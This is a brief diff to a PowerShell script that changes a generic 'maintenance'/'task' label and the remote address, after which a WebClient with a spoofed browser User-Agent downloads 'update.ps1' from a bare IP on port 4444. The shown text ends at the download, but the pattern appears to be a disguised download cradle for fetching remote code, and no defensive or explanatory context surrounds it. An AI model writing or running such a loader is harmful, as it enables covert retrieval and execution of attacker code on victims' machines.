@@ -1,5 +1,5 @@
-# maintenance 8748 v1
-$u = 'http://198.51.100.23:1337/'
+# task 5917 v1
+$u = 'http://192.0.2.44:4444/'
 $wc = New-Object System.Net.WebClient
 $wc.Headers.Add('User-Agent','Mozilla/5.0')
 $s = $wc.DownloadString($u + 'update.ps1')
